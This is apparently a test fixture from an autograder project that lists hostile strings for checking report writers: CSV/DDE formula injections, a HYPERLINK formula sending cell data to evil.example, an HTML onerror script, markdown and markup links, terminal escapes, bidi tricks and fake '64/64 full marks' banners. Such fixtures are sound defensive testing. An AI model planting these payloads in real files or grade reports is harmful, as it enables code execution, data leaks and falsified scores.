"""Hostile text (issue 43): what a student can put in an exception message or a file name, each
aimed at one writer. tests/project/test_hostile_text.py feeds every writer all of them."""

HOSTILE = {
    "lone_surrogate": "a lone surrogate \ud800 and a low one \udcff",  # what UTF-8 writers refuse to encode
    "csv_formula": '=HYPERLINK("http://evil.example/?"&A1,"64/64")',
    "csv_plus": "+1+cmd|' /C calc'!A0",
    "csv_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "csv_minus": "-2+3",
    "reserved_row": "Points Possible",
    "html_banner": '<h1 style="color:green">64/64 full marks</h1><img src=x onerror="alert(1)">',
    "markdown_banner": "| 64/64 | full marks |\n## 64/64 ![ok](https://evil.example/ok.png) [grade](https://evil.example)",
    "rich_markup": "[bold green]64/64[/bold green] [link=https://evil.example]x[/link]",
    "controls": "bell \x07 escape \x1b[31mred\x1b[0m nul \x00 del \x7f c1 \x85 cr \r end",
    "bidi": "score \u202e46/0\u202c and \u2066isolate\u2069",
    "xml": ']]><!-- --><?pi?><testcase name="x"/>&amp;',
    "line_separators": "one\u2028two\u2029three\x0bfour\x0cfive",
    "noncharacters": "\ufffe\uffff",
    "long": "x" * 200_000,
}


def message_source() -> str:
    """A unit file whose every function raises all of :data:`HOSTILE` at once (allowed code:
    string literals and ``raise``), so every report of its properties carries them."""
    text = " ".join(HOSTILE.values())
    functions = [f"def {name}(*args, **kwargs):\n    raise ValueError(MESSAGE)\n"
                 for name in ("softmax", "causal_mask", "scaled_dot_product_attention")]
    return f"MESSAGE = {text!r}\n\n\n" + "\n\n".join(functions)
